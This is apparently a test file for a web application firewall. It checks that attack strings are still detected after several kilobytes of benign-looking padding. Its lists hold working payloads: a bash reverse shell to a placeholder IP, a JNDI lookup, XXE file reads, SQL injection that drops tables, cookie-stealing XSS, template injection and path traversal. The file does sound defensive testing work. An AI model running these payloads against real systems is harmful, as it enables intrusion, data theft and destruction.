import assert from "node:assert/strict";
import { test } from "node:test";
import type { Detection } from "../../../src/waf/detection.ts";
import { detectors } from "../../../src/waf/detectors.ts";

/**
 * A limit on what a detector reads is a place to hide: seven kilobytes of what it looks at and finds harmless, then the
 * attack. By the first part of a detector's name: decoys, and attacks that no decoy may hide.
 */
const cases: Readonly<Record<string, readonly [decoys: readonly string[], attacks: readonly string[]]>> = {
  shell: [
    [";a ", ";sh a ", "|nc a", "&&cat x ", ";sort x ", "$(git a) ", "`ls` ", "{ls} ", "<(a) ", "$[a] "],
    [";cat /etc/hostname", "| nslookup probe.example", "x`sleep 5`", "$(cat /etc/hosts)", ";w'h'oami -x"],
  ],
  command: [
    ["cmd /c is ", "nc a ", "curl x ", "sh -c a ", "for %a ", "net user ", "powershell a "],
    ["; python3 -c 'import os'", "bash -i >& /dev/tcp/203.0.113.7/4444", "cmd.exe /c whoami"],
  ],
  path: [
    ["../a ", "..\\a ", "../../x ", "?? / ", "... / ", "%2e "],
    ["../../../etc/hosts", "..%c0%af..%c0%afboot.ini", "/..;/..;/manager/html"],
  ],
  php: [
    ["<?php is ", "the system('x') of a ", "eval ", "a b $_get[a] is it ", "chr(1) ", "$a "],
    ["<?= `id` ?>", "<?php system($_GET[0]) ?>", ";system('id');", "chr(105).chr(100)"],
  ],
  java: [
    [
      "java.lang.runtime of a ",
      "at java.lang.runtime ",
      "runtime.getruntime().gc() ",
      "import java.lang.runtime;",
    ],
    ["Runtime.getRuntime().exec('id')", "${#context['x']}", "com.sun.rowset.JdbcRowSetImpl"],
  ],
  node: [
    ["__proto__ of a ", "require('a') ", "while(a) ", "eval(a) "],
    ["require('child_process').exec('id')", "__proto__[x]=1", "while(true);"],
  ],
  url: [
    ["http://1.2.3.4/ ", "http://a.b/ ", "://1 "],
    ["http://[::ffff:a9fe:a9fe]/", "http://0x7f000001/"],
  ],
  lookup: [
    ["${a:b} ", "jndi:", "${ "],
    ["${jndi:ldap://203.0.113.7/x}", "${${lower:j}ndi:ldap://x/}"],
  ],
  "xml-attack": [
    ["<a> ", "<!doctype ", "<include "],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hosts">]><r>&x;</r>'],
  ],
  sql: [
    ["' or ", "'+a+'", "'+1", "a or b ", "; a ", "' and ", "-- ", "from a "],
    ["x' or 1=1-- ", "' union select 1,2-- ", "'; drop table a-- "],
  ],
  nosql: [
    ["db.a ", "db.find ", "$a ", "[$ne] "],
    ["'; db.users.drop(); var a='", '{"$where": "sleep(1)"}'],
  ],
  ldap: [
    ["a:=b ", "*) "],
    ["cn:dn:=x", "*)(uid=*))(|(uid=*"],
  ],
  xpath: [
    ["f(a) ", "(a ", "a]b ", "count(a) "],
    ["x' or not(false()) or '", "x'] | //user/*", "x']/parent::*/child::node()['"],
  ],
  html: [
    ["<b> ", "<b ", "<a b=c>", "on ", "javascript: ", ":include ", "expression "],
    ["<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<x:include href=file:///a>"],
  ],
  javascript: [
    ["'+a+'", "'+0+'", "alert ", "document ", "[a]"],
    ["';alert(document.cookie)//", "'-alert(document.cookie)-'"],
  ],
  template: [
    ["{{ ", "${ ", "<% ", "#{ ", "{a} "],
    ["{{7*7}}", "${7*7}", "<%= system('id') %>", "{{config.__class__.__init__}}"],
  ],
  crlf: [
    ["\r\na: b", "%0d%0a ", "\n"],
    ["\r\nset-cookie: a=b", "\r\nlocation: http://203.0.113.7/"],
  ],
  ssi: [
    ["<!--a ", "<!--#a ", "<esi:a "],
    ['<!--#exec cmd="id"-->', "<esi:include src=http://x/>"],
  ],
};

const FLOOD_CHARS = 7_168;

for (const [name, [decoys, attacks]] of Object.entries(cases)) {
  const own = detectors.filter((detector) => detector.name.split(/[.]|-text$/)[0] === name);

  function isSeen(value: string): boolean {
    const text = Buffer.from(value, "latin1").latin1Slice();
    const found: Detection[] = [];
    for (const detector of own) detector.detect({ text, lower: text.toLowerCase() }, found);
    return found.some(({ kind }) => !kind.includes(".loose_"));
  }

  test(`nothing that the ${name} detector finds harmless hides an attack behind it`, () => {
    assert.ok(own.length > 0);
    const hidden: string[] = [];
    for (const decoy of decoys) {
      const flood = decoy.repeat(FLOOD_CHARS / decoy.length);
      for (const attack of attacks) if (!isSeen(flood + attack)) hidden.push(`${attack} behind ${decoy}`);
    }
    assert.deepEqual(hidden, []);
  });
}
